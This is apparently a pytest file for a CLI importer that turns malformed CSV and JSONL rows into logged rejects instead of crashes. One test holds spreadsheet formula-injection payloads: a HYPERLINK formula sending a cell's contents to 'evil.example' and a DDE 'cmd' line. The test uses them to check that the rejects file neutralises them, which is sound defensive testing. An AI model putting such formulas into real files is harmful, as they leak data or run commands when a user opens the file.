"""`tanggap import` never stops with a traceback: a lone surrogate, a huge cell, a byte that
is not UTF-8 deep in the file, every kind of invalid row — each becomes one rejected row with
its line number and reason, the rows around it are stored, and the rejects file is itself
safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlmodel import func, select
from typer.testing import CliRunner

from collectors import files
from collectors.files import import_file
from store.db import read_session
from store.tables import Mention


def good(n: int) -> dict:
    return {"text": f"jalan rusak nomor {n} di Genteng", "created_at": "2026-11-20T08:00:00+07:00",
            "external_id": f"row-{n}"}


def stored() -> int:
    with read_session() as s:
        return s.exec(select(func.count()).select_from(Mention)).one()


def rejects_of(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def write_jsonl(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_lone_surrogate_is_rejected_and_its_chunk_still_stored(db, tmp_path):
    lines = [json.dumps(good(n)) for n in range(1, 25)]
    lines.insert(12, '{"text": "tolong \\ud83d", "created_at": "2026-11-20T08:00:00+07:00"}')  # line 13
    report = import_file(write_jsonl(tmp_path / "wa.jsonl", lines), tmp_path / "r.csv")
    assert (report.read, report.imported, report.rejected) == (25, 24, 1)
    assert stored() == 24
    [reject] = rejects_of(tmp_path / "r.csv")
    assert reject["line"] == "13"
    assert reject["reason"] == "text holds an unpaired surrogate \\ud83d at character 8 (not text)"
    assert reject["content"] == '{"text": "tolong \\ud83d", "created_at": "2026-11-20T08:00:00+07:00"}'


def test_a_csv_cell_over_128_kb_is_rejected_not_a_crash(db, tmp_path):
    source = tmp_path / "big.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["text", "created_at", "external_id"])
        writer.writerow(["sampah menumpuk", "2026-11-20 08:00", "a"])
        writer.writerow(["x" * 200_000, "2026-11-20 08:00", "b"])  # over csv's default 131,072
        writer.writerow(["é" * 33_000, "2026-11-20 08:00", "c"])  # 66,000 bytes of text
        writer.writerow(["lampu mati", "2026-11-20 08:00", "d"])
    report = import_file(source, tmp_path / "r.csv")
    assert (report.imported, report.rejected) == (2, 2)
    assert [(r["line"], r["reason"]) for r in rejects_of(tmp_path / "r.csv")] == [
        ("3", "text is over 64 KB (200,000 bytes of text)"), ("4", "text is over 64 KB (66,000 bytes of text)")]


def test_a_cell_past_the_csv_limit_is_an_unreadable_row_and_the_next_rows_import(db, tmp_path, monkeypatch):
    monkeypatch.setattr(files, "CSV_FIELD_LIMIT", 1000)
    previous = csv.field_size_limit(1000)
    try:
        source = tmp_path / "huge.csv"
        source.write_text("text,created_at\n" + "y" * 5000 + ",2026-11-20 08:00\nlampu mati,2026-11-20 08:00\n")
        report = import_file(source, tmp_path / "r.csv")
    finally:
        csv.field_size_limit(previous)
    assert (report.imported, report.rejected) == (1, 1)
    [reject] = rejects_of(tmp_path / "r.csv")
    assert reject["line"] == "2" and reject["reason"].startswith("unreadable CSV row (field larger than field limit")


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_a_latin1_byte_at_row_1500_rejects_that_row_only(db, tmp_path, suffix):
    rows = [good(n) for n in range(1, 2001)]
    if suffix == "csv":
        lines = ["text,created_at,external_id"] + [f"{r['text']},{r['created_at']},{r['external_id']}" for r in rows]
    else:
        lines = [json.dumps(r) for r in rows]
    data = "\n".join(lines).encode("utf-8")
    # A UTF-8 file (row 1 holds a UTF-8 'é'; a file with no UTF-8 character at all and a
    # Latin-1 byte is read as Windows-1252, tests/collectors/test_import_formats.py) ...
    data = data.replace(b"nomor 1 di", "nomor 1 café di".encode())
    data = data.replace(b"nomor 1500 di", b"nomor 1500 caf\xe9 di")  # ... with one Latin-1 'é'
    source = tmp_path / f"lapor.{suffix}"
    source.write_bytes(data + b"\n")
    report = import_file(source, tmp_path / "r.csv")
    assert (report.read, report.imported, report.rejected) == (2000, 1999, 1)
    [reject] = rejects_of(tmp_path / "r.csv")
    assert reject["line"] == ("1501" if suffix == "csv" else "1500")
    assert reject["reason"].startswith("is not UTF-8 text (byte 0xE9 at character")
    assert "caf\\xE9 di" in reject["content"]  # the rejects file is UTF-8; the byte is shown as an escape
    assert stored() == 1999


def test_the_rejects_file_neutralises_formulas_like_the_exports(db, tmp_path):
    lines = [json.dumps(good(1)), '=HYPERLINK("http://evil.example/?d="&A1,"klik")', '+cmd|" /C calc"!A0',
             json.dumps({"text": "x", "created_at": "2026-11-20T08:00:00+07:00", "platform": "=1+1"})]
    report = import_file(write_jsonl(tmp_path / "f.jsonl", lines), tmp_path / "r.csv")
    assert (report.imported, report.rejected) == (1, 3)
    contents = [r["content"] for r in rejects_of(tmp_path / "r.csv")]
    assert contents[0] == '\'=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    assert contents[1] == "'+cmd|\" /C calc\"!A0"
    assert all(not r["reason"].startswith(("=", "+", "-", "@")) for r in rejects_of(tmp_path / "r.csv"))


DEEP = "[" * 100_000 + "]" * 100_000
NESTED = {"text": "x", "created_at": "2026-11-20T08:00:00+07:00", "extra": json.loads("[" * 40 + "]" * 40)}
BAD_LINES = [  # (line, the start of its reason)
    ("{not json", "not valid JSON"),  # broken JSON
    ('["a list"]', "row must be an object, got list"),  # not an object
    ('"a string"', "row must be an object, got str"),
    ("null", "row must be an object, got NoneType"),
    (DEEP, "JSON nested too deeply"),  # would overflow the parser's stack
    (json.dumps(NESTED), "extra"),  # nested past 32 levels inside a field
    ('{"text": "ok", "created_at": "2026-11-20T08:00:00+07:00", "\\udc00x": 1}', "payload holds an unpaired"),
    ('{"text": "ok", "created_at": "2026-11-20T08:00:00+07:00", "note": "\\ude00"}', "note holds an unpaired"),
    (json.dumps({"created_at": "2026-11-20T08:00:00+07:00"}), "text is missing"),
    (json.dumps({"text": "  ", "created_at": "2026-11-20T08:00:00+07:00"}), "text is empty"),
    (json.dumps({"text": 42, "created_at": "2026-11-20T08:00:00+07:00"}), "text must be a string, got int"),
    (json.dumps({"text": "x"}), "created_at is missing"),
    (json.dumps({"text": "x", "created_at": "kemarin sore"}), "created_at is not an ISO 8601 time"),
    (json.dumps({"text": "x", "created_at": 1732838400}), "created_at must be a time string, got int"),
    (json.dumps({"text": "x", "created_at": "2099-01-01T00:00:00+07:00"}), "created_at is "),  # the future
    (json.dumps({"text": "x", "created_at": "0001-01-01T00:00:00+14:00"}), "created_at is out of range"),
    (json.dumps({**good(0), "platform": "myspace"}), "platform must be one of"),
    (json.dumps({**good(0), "author": "a" * 200}), "author is longer than 128 characters"),
    (json.dumps({**good(0), "external_id": 10**200}), "external_id is longer than"),
    (json.dumps({**good(0), "notes": "z" * 70_000}), "notes is over 64 KB"),  # any column, not only text
]


def test_every_kind_of_invalid_row_is_rejected_with_its_line_and_reason(db, tmp_path):
    lines = []
    for n, (bad, _) in enumerate(BAD_LINES):
        lines += [json.dumps(good(n)), bad]
    report = import_file(write_jsonl(tmp_path / "mixed.jsonl", lines), tmp_path / "r.csv")
    assert (report.imported, report.rejected) == (len(BAD_LINES), len(BAD_LINES))
    rejects = rejects_of(tmp_path / "r.csv")
    for n, ((_, reason), reject) in enumerate(zip(BAD_LINES, rejects, strict=True)):
        assert reject["line"] == str(2 * n + 2)
        assert reject["reason"].startswith(reason), (reason, reject["reason"])


def test_the_command_reports_instead_of_a_traceback(db, tmp_path):
    source = tmp_path / "lapor.csv"
    # UTF-8 (row 1's 'é') with one Latin-1 byte in row 2
    source.write_bytes(b"text,created_at\nbaik caf\xc3\xa9,2026-11-20 08:00\ncaf\xe9,2026-11-20 08:00\n")
    result = CliRunner().invoke(__import__("console.cli", fromlist=["app"]).app, ["import", str(source)])
    assert result.exit_code == 0, result.output
    assert "read 2, imported 1, duplicates 0, rejected 1" in result.output

